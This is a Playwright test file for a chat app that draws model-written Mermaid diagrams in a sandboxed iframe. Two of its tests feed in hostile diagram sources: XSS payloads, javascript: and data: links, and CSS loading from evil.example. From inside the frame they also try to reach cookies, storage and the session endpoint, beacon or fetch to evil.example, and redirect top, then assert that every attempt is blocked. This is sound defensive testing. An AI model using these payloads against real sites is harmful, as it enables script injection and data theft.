// Diagrams: drawn by a large library out of a text that a model wrote, in a frame that can do nothing else.
import type { Frame } from '@playwright/test';
import { type Chat, expect, test } from '../support/fixtures.ts';
import type { ScriptedLlm } from '../support/scripted_llm.ts';

async function answer(chat: Chat, llm: ScriptedLlm, source: string) {
  await chat.ask('Draw it');
  const ask = await llm.next();
  ask.text(`Here it is:\n\n\`\`\`mermaid\n${source}\n\`\`\`\n\nThe end`);
  ask.end();
  await expect(chat.replies.last()).toContainText('The end');
  await expect(chat.send).toBeVisible();
}

async function shown(chat: Chat): Promise<Frame> {
  await chat.replies.last().getByRole('button', { name: 'Show diagram' }).click();
  const element = chat.replies.last().locator('iframe');
  await expect(element).toHaveAttribute('height', /\d+/);
  return (await (await element.elementHandle())!.contentFrame())!;
}

/** The addresses elsewhere that the browser asked for. */
async function watchNetwork(chat: Chat, origin: string): Promise<string[]> {
  const asked: string[] = [];
  await chat.page.context().route('**/*', (route) => {
    if (!route.request().url().startsWith(origin)) asked.push(route.request().url());
    return route.continue();
  });
  return asked;
}

test('a diagram takes the place of its source, and gives it back', async ({ chat, llm }) => {
  const { page } = chat;
  const loaded: string[] = [];
  page.on('request', (request) => loaded.push(new URL(request.url()).pathname));
  await answer(chat, llm, 'graph TD\n  A[Browser] --> B[Server]\n  B --> C[(SQLite)]');
  const code = chat.replies.getByLabel('Mermaid code block');
  await expect(code).toContainText('A[Browser]');
  expect(loaded.filter((path) => path.includes('diagram'))).toEqual([]);
  const frame = await shown(chat);
  await expect(frame.locator('svg')).toContainText('SQLite');
  await expect(code).toBeHidden();
  const height = Number(await chat.replies.locator('iframe').getAttribute('height'));
  expect(height).toBeGreaterThan(60);
  expect(height).toBeLessThanOrEqual(2000);
  await chat.replies.getByRole('button', { name: 'Show source' }).click();
  await expect(code).toBeVisible();
  await expect(chat.replies.locator('iframe')).toHaveCount(0);

  await page.reload();
  await chat.awake();
  await expect((await shown(chat)).locator('svg')).toContainText('SQLite');
});

test('a diagram with a fault is shown as its source, with a word about it', async ({ chat, llm }) => {
  await answer(chat, llm, 'graph TD\n  A[[[ --> )');
  await chat.replies.getByRole('button', { name: 'Show diagram' }).click();
  await expect(chat.page.getByText('This diagram has a fault')).toBeVisible();
  await expect(chat.replies.getByLabel('Mermaid code block')).toBeVisible();
  await expect(chat.replies.locator('iframe')).toHaveCount(0);
});

test('e08 what a diagram says runs nothing, loads nothing and leads nowhere', async ({ chat, llm, confab, complaints }) => {
  const { page } = chat;
  const asked = await watchNetwork(chat, confab.origin);
  page.on('dialog', (dialog) => {
    asked.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const before = page.url();
  const hostile = [
    '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}, "htmlLabels": true, "secure": [], "themeCSS": "* { background: url(https://evil.example/css) }"}}%%\ngraph TD\n  A["<img src=https://evil.example/i onerror=alert(1)>"] --> B["<script>alert(1)</script>"]\n  click A href "javascript:parent.alert(1)"\n  click B href "https://evil.example/top" _top',
    'graph TD\n  A[one] --> B[two]\n  click A call alert()\n  click B "https://evil.example/link" _blank',
    '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nsequenceDiagram\n  participant A\n  link A: Evil @ https://evil.example/menu\n  A->>A: <b onclick=alert(1)>x</b><iframe src="https://evil.example/f"></iframe>',
    'classDiagram\n  class A\n  click A href "data:text/html,<script>alert(1)</script>"\n  link A "https://evil.example/class" "x" _parent',
  ];
  for (const source of hostile) {
    await answer(chat, llm, source);
    const frame = await shown(chat);
    const drawn = await frame.evaluate(() => ({
      scripts: document.body.querySelectorAll('script, iframe, img, object, embed, form').length,
      links: [...document.querySelectorAll('a')].filter((link) => link.hasAttribute('href') || link.hasAttribute('xlink:href')).length,
      handlers: [...document.body.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on')),
    }));
    expect(drawn).toEqual({ scripts: 0, links: 0, handlers: [] });
    for (const node of await frame.locator('svg g.node, svg rect.actor, svg a').all()) await node.click({ force: true }).catch(() => {});
  }
  expect(page.url()).toContain(new URL(before).origin);
  expect(page.context().pages()).toHaveLength(1);
  expect(asked).toEqual([]);
  // What tried is told that it may not, by the policy of the frame.
  const told = (complaint: string) => complaint.includes('Executing inline event handler violates') || complaint.includes('evil.example');
  expect(complaints.splice(0).filter((complaint) => !told(complaint))).toEqual([]);
});

test('e09 not even a script in the frame gets out of it', async ({ chat, llm, confab, complaints }) => {
  const { page } = chat;
  const asked = await watchNetwork(chat, confab.origin);
  await answer(chat, llm, 'graph TD\n  A --> B');
  const frame = await shown(chat);
  await expect(chat.replies.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
  const outcome = await frame.evaluate(async (own) => {
    const tried = async (what: () => unknown) => {
      try {
        return (await what()) ?? 'nothing';
      } catch {
        return 'refused';
      }
    };
    return {
      origin: self.origin,
      page: await tried(() => parent.document.title),
      cookies: await tried(() => document.cookie),
      storage: await tried(() => localStorage.length),
      own: await tried(() => fetch(`${own}/api/auth/session`, { mode: 'no-cors' })),
      elsewhere: await tried(() => fetch('https://evil.example/fetch', { mode: 'no-cors' })),
      beacon: await tried(() => navigator.sendBeacon('https://evil.example/beacon', 'x') && 'sent'),
      popup: await tried(() => window.open('https://evil.example/popup')),
      picture: await tried(() => new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: 'https://evil.example/image' }))),
      evaluated: await tried(() => (0, eval)('1')),
      top: await tried(() => { top!.location.href = 'https://evil.example/top'; }),
    };
  }, confab.origin);
  expect(outcome).toMatchObject({ origin: 'null', page: 'refused', cookies: 'refused', storage: 'refused', own: 'refused', elsewhere: 'refused', popup: 'nothing', picture: 'refused', evaluated: 'refused' });

  // What the frame says is a number within bounds, or nothing.
  const element = chat.replies.locator('iframe');
  const height = await element.getAttribute('height');
  await frame.evaluate(() => {
    for (const said of [-5, 0, 1e9, NaN, '100" onload="alert(1)', { height: 5 }, [7], '<script>']) parent.postMessage(said, '*');
  });
  // Nor does anybody else speak for it.
  await page.evaluate(() => window.postMessage(777, '*'));
  await frame.evaluate(() => parent.postMessage(321, '*'));
  await expect(element).toHaveAttribute('height', '321');
  expect(height).not.toBe('777');

  // It may lead itself elsewhere, but the page's policy does not let it.
  await frame.evaluate(() => { location.href = 'https://evil.example/self?secret'; }).catch(() => {});
  await expect.poll(() => complaints.some((complaint) => complaint.includes("Framing 'https://evil.example") && complaint.includes('frame-src'))).toBe(true);
  expect(new URL(page.url()).origin).toBe(confab.origin);
  expect(asked).toEqual([]);
  complaints.length = 0;
});
